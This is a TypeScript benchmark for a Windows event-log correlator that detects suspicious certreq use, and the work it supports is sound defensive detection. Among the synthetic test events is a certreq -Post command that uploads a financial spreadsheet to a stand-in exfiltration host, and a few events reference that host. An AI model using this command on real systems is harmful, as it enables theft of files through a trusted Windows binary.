/**
 * Correlation and triage cost: what `scan` pays per event on top of decoding and matching.
 *  1. observe(): a generated Sysmon 1/3/5/11/22 + Security 4688/4689 stream (50 hosts, PID reuse), index capped
 *     at its default 200,000 records — events/s and the heap the full index holds;
 *  2. alertsFor() on 1 event in 47 (triage, tree, lifetime, evidence, suppressions, online incidents), then
 *     finalize() of them all (recomputed context, incidents in time order);
 *  3. triage alone (CommandLineToArgvW split + certreq intent + grade) over the shared certreq corpus.
 * Run: node --expose-gc --import tsx bench/correlate.bench.ts [events]   (default 500000)
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Correlator } from '../src/correlate/index.js';
import type { Alert, Detection, RuleMeta } from '../src/model/alert.js';
import type { WinEvent } from '../src/model/event.js';
import { SECURITY_CHANNEL, SECURITY_PROVIDER, SYSMON_CHANNEL, SYSMON_PROVIDER } from '../src/model/event.js';
import { gradeCertreq } from '../src/triage/severity.js';
import { SHARED, fmt } from './lib.js';

const EVENTS = Number(process.argv[2] ?? 500_000);
const gc = (globalThis as { gc?: () => void }).gc ?? ((): void => {});

let seed = 7;
const random = (): number => {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
};

const RULE: RuleMeta = { id: 'certreq-download-upload', title: 'Suspicious Certreq Command to Download or Upload', level: 'high', references: [], tags: ['attack.defense-evasion', 'attack.t1027'], falsepositives: [], source: 'builtin:certreq-download-upload.yml', extra: {} };
const COMMANDS = [
  'certreq -Post -config https://exfil.example.com/u C:\\Users\\bob\\Documents\\Q3-financials.xlsx',
  'certreq -submit -config "CA01.contoso.com\\Contoso-Issuing-CA" -attrib "CertificateTemplate:WebServer" C:\\certs\\web01.req C:\\certs\\web01.cer',
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234',
];

/** One event of a realistic process-activity mix; `i` drives time (100 ms apart) and identities. */
function makeEvent(i: number): WinEvent {
  const host = `WS${String(i % 50).padStart(3, '0')}.corp.example`;
  const time = new Date(Date.UTC(2026, 0, 1) + i * 100).toISOString();
  const pid = Math.floor(random() * 8000) * 4; // small PID space per host: reuse happens
  const guid = `5770385f-c22a-43e0-bf4c-${String(i).padStart(12, '0')}`;
  const r = random();
  if (r < 0.3) return { system: { provider: SECURITY_PROVIDER, channel: SECURITY_CHANNEL, eventId: 4688, timeCreated: time, computer: host, recordId: i }, data: { NewProcessId: `0x${pid.toString(16)}`, ProcessId: `0x${(pid + 4).toString(16)}`, NewProcessName: 'C:\\Windows\\System32\\certreq.exe', CommandLine: COMMANDS[i % COMMANDS.length]!, TargetUserName: 'bob', TargetDomainName: 'CONTOSO' }, origin: { file: 'bench' } };
  if (r < 0.4) return { system: { provider: SECURITY_PROVIDER, channel: SECURITY_CHANNEL, eventId: 4689, timeCreated: time, computer: host, recordId: i }, data: { ProcessId: `0x${pid.toString(16)}`, ProcessName: 'C:\\Windows\\System32\\certreq.exe', Status: '0x0' }, origin: { file: 'bench' } };
  const sysmon = (eventId: number, data: Record<string, string>): WinEvent => ({ system: { provider: SYSMON_PROVIDER, channel: SYSMON_CHANNEL, eventId, timeCreated: time, computer: host, recordId: i }, data: { ProcessGuid: `{${guid}}`, ProcessId: String(pid), ...data }, origin: { file: 'bench' } });
  if (r < 0.7) return sysmon(1, { Image: 'C:\\Windows\\System32\\certreq.exe', OriginalFileName: 'CertReq.exe', CommandLine: COMMANDS[i % COMMANDS.length]!, User: 'CONTOSO\\alice', ParentProcessGuid: `{5770385f-c22a-43e0-bf4c-${String(Math.max(0, i - 50)).padStart(12, '0')}}`, ParentProcessId: String(pid + 4) });
  if (r < 0.8) return sysmon(5, { Image: 'C:\\Windows\\System32\\certreq.exe' });
  if (r < 0.9) return sysmon(3, { DestinationIp: '203.0.113.9', DestinationHostname: 'exfil.example.com', DestinationPort: '443', Protocol: 'tcp' });
  if (r < 0.95) return sysmon(22, { QueryName: 'exfil.example.com', QueryResults: '::ffff:203.0.113.9;' });
  return sysmon(11, { TargetFilename: 'C:\\Users\\Public\\out.txt' });
}

// 1. observe
const events: WinEvent[] = [];
for (let i = 0; i < EVENTS; i++) events.push(makeEvent(i));
gc();
const correlator = new Correlator();
const heapBefore = process.memoryUsage().heapUsed;
let t0 = process.hrtime.bigint();
for (const ev of events) correlator.observe(ev);
let seconds = Number(process.hrtime.bigint() - t0) / 1e9;
gc();
const stats = correlator.stats();
console.log(`observe:   ${fmt(EVENTS / seconds / 1000)} k events/s (${EVENTS} process events; index ${stats.indexed} records, ${stats.evicted} evicted; index heap ≈ ${fmt((process.memoryUsage().heapUsed - heapBefore) / 2 ** 20)} MiB)`);

// 2. alertsFor + finalize, on events still in the index (the last 100,000)
const alerting = events.slice(-100_000).filter((ev, i) => i % 47 === 0 && (ev.system.eventId === 1 || ev.system.eventId === 4688));
const raised: Alert[] = [];
t0 = process.hrtime.bigint();
for (const ev of alerting) raised.push(...correlator.alertsFor(ev, [{ rule: RULE, event: ev } satisfies Detection]));
seconds = Number(process.hrtime.bigint() - t0) / 1e9;
console.log(`alertsFor: ${fmt(raised.length / seconds / 1000)} k alerts/s (${raised.length} alerts)`);
t0 = process.hrtime.bigint();
const final = correlator.finalize(raised);
seconds = Number(process.hrtime.bigint() - t0) / 1e9;
console.log(`finalize:  ${fmt(seconds * 1000, 0)} ms for ${final.length} alerts (${correlator.incidents().length} incidents)`);

// 3. triage alone over the corpus
const rows = readFileSync(join(SHARED, 'certreq', 'commands.tsv'), 'utf8').split('\n').slice(1).filter((l) => l.trim() !== '').map((l) => l.split('\t'));
const ROUNDS = 500;
t0 = process.hrtime.bigint();
for (let n = 0; n < ROUNDS; n++) for (const [, commandLine, image, ofn] of rows) gradeCertreq({ image, ...(ofn ? { originalFileName: ofn } : {}), commandLine });
seconds = Number(process.hrtime.bigint() - t0) / 1e9;
console.log(`triage:    ${fmt((ROUNDS * rows.length) / seconds / 1000)} k command lines/s (certreq corpus × ${ROUNDS})`);
console.log('(2 cores shared with other work: expect run-to-run variation)');
